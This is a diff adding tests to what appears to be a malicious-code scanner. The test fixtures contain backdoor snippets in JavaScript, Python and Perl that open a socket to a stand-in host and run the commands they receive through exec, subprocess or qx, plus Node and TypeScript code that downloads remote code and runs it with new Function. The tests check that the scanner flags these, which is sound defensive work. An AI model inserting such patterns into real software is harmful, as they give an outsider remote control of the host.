@@ -117,3 +117,61 @@ def test_credentials_sent_without_a_local_check_or_hashed_are_not_exfiltration()
               "    requests.post('https://hooks.example.com/x', json={'text': username + ' logged in'})\n")
     for src in (proxy, hibp, notify):
         assert [f for f in findings("app/auth.py", "python", src) if f.rule == "source.exfiltration"] == []
+
+
+# ---------------------------------------------------------------- commands read from a connection it opened
+
+def test_node_data_events_of_an_opened_connection_run_as_commands():
+    js = ("setInterval(() => {\n"
+          "  const sock = require('net').connect({ host: '203.0.113.9', port: 4100 });\n"
+          "  sock.on('data', (d) => require('child_process').exec(d.toString(), (e, o) => sock.write(o)));\n"
+          "}, 30000);\n")
+    got = findings("server.js", "javascript", js)
+    assert [(f.rule, f.evidence["input_kind"]) for f in got] == [("source.request-executed", "network")]
+    # the data of a connection logged, and a fixed command run on a timer, are not a command channel
+    honest = js.replace("require('child_process').exec(d.toString(), (e, o) => sock.write(o))", "log(d.toString())")
+    honest += "setInterval(() => require('child_process').exec('df -h', (e, o) => log(o)), 60000);\n"
+    assert rules("server.js", "javascript", honest) == []
+
+
+def test_python_lines_of_a_connection_file_run_as_commands():
+    py = ("import socket, subprocess\n\ndef _sync():\n"
+          "    s = socket.create_connection(('198.51.100.5', 4100), timeout=30)\n"
+          "    for line in s.makefile('r'):\n"
+          "        s.sendall(subprocess.run(line, shell=True, capture_output=True).stdout)\n")
+    assert rules("app/__init__.py", "python", py) == ["source.request-executed"]
+    # lines of a local file are the operator's own
+    honest = py.replace("s.makefile('r')", "open('/etc/app/jobs.txt')")
+    assert rules("app/__init__.py", "python", honest) == []
+
+
+def test_perl_lines_read_from_a_socket_object_run_by_qx():
+    pl = ("package Tool::Diag;\nuse IO::Socket::INET;\n"
+          "if (fork() == 0) {\n"
+          "    my $c = IO::Socket::INET->new(PeerAddr => '198.51.100.6', PeerPort => 4100);\n"
+          "    while (my $l = <$c>) { print $c scalar qx{$l 2>&1}; }\n    exit 0;\n}\n1;\n")
+    assert rules("lib/Tool/Diag.pm", "perl", pl) == ["source.request-executed"]
+    honest = pl.replace("IO::Socket::INET->new(PeerAddr => '198.51.100.6', PeerPort => 4100)",
+                        "IO::File->new('/etc/tool/jobs', 'r')")
+    assert rules("lib/Tool/Diag.pm", "perl", honest) == []
+
+
+# ---------------------------------------------------------------- code downloaded and run
+
+def test_node_download_response_collected_and_run_by_new_function():
+    pushed = ("function check() {\n"
+              "  require('http').get('http://updates.invalid/x', (res) => {\n"
+              "    const parts = [];\n    res.on('data', (c) => parts.push(c));\n"
+              "    res.on('end', () => {\n      const body = Buffer.concat(parts);\n"
+              "      new Function('require', body.toString())(require);\n    });\n  });\n}\n")
+    added = ("export function start(): void {\n"
+             "  https.get('https://cfg.invalid/x.js', (res) => {\n    let src = '';\n"
+             "    res.on('data', (d) => (src += d));\n"
+             "    res.on('end', () => new Function('require', src)(require));\n  });\n}\n")
+    for rel, lang, src in (("lib/updater.js", "javascript", pushed), ("src/telemetry.ts", "typescript", added)):
+        got = findings(rel, lang, src)
+        assert [(f.rule, f.severity.value) for f in got] == [("source.eval-downloaded", "critical")], got
+    # a downloaded manifest parsed as JSON is data, not code; a fixed function body is not a download
+    honest = pushed.replace("new Function('require', body.toString())(require)", "apply(JSON.parse(body.toString()))")
+    honest += "const f = new Function('a', 'b', 'return a + b');\n"
+    assert rules("lib/updater.js", "javascript", honest) == []
